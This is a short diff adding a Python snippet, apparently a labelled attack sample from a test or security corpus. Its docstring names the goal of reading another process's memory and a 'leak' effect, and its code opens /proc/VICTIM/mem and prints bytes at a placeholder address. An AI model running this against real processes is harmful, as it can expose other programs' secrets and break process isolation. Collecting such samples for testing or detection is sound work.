@@ -1,0 +1,9 @@
+"""
+goal: read another process's memory through its file
+effect: leak
+"""
+
+import os
+
+fd = os.open(f"/proc/{VICTIM}/mem", os.O_RDONLY)
+print(os.pread(fd, LENGTH, ADDRESS))
